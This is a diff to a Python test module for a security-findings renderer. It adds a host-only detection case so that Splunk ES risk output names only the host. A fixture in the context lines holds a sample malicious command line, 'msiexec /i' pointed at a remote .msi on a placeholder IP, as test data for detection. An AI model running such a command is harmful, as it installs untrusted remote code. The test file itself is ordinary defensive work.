@@ -7,10 +7,10 @@ from __future__ import annotations
 
 import json
 import re
-from collections.abc import Iterator
+from collections.abc import Callable, Iterator
 from copy import deepcopy
 from datetime import date, datetime, timezone
-from functools import cache, reduce
+from functools import cache, partial, reduce
 from pathlib import Path
 from typing import Any
 
@@ -27,7 +27,10 @@ from procnet.findings.ocsf import VERSION, to_ocsf
 from procnet.findings.render import json_lines
 from procnet.findings.splunk_es import to_splunk_es
 
-RENDERINGS = {"ocsf": to_ocsf, "es": to_splunk_es, "elastic": to_elastic}
+HOST_ONLY = "35307032-a12d-11eb-835f-acde48001122"
+RENDERINGS: dict[str, Callable[[DataFrame], DataFrame]] = {
+    "ocsf": to_ocsf, "es": partial(to_splunk_es, bearers={HOST_ONLY: ["host"]}), "elastic": to_elastic,
+}  # fmt: skip
 PAGE = Path(__file__).resolve().parents[2] / "docs" / "renderings.md"
 CLIENT = {"role": "client", "process_id": 900, "process_guid": "G-9", "process_name": "msiexec.exe",
           "process": "msiexec /i http://203.0.113.80/a.msi",
@@ -193,6 +196,8 @@ CASES: dict[str, Case] = {
     "user bears risk too": (FULL, {}, {"es": {
         "[].risk_object": ["ws-1.example", "CORP\\ann"], "[].risk_object_type": ["system", "user"],
         "[].risk_score": [35, 35]}}),
+    "the detection means the host alone": (FULL, {"detection_id": HOST_ONLY}, {
+        "es": {"[].risk_object": ["ws-1.example"], "[].risk_object_type": ["system"]}}),
     "no ids": (FULL, {"process_id": None, "process_guid": None, "process_path": None, "process_hash": None}, {
         "ocsf": {"evidences[0].process": MISSING, "unmapped.process.name": "update.exe",
                  "unmapped.process.file": {"name": "update.exe", "type_id": 1},
